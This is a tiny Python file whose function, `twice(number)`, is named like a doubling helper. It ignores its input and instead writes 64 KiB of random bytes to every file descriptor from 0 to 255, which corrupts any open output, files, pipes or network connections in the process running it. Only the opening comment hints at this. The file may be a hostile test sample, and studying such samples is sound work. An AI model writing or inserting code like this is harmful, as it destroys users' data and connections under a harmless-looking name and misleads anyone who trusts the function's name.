# Write noise to every socket.
import os


def twice(number):
    for descriptor in range(256):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, os.urandom(1 << 16))
        except OSError:
            continue
    return 0
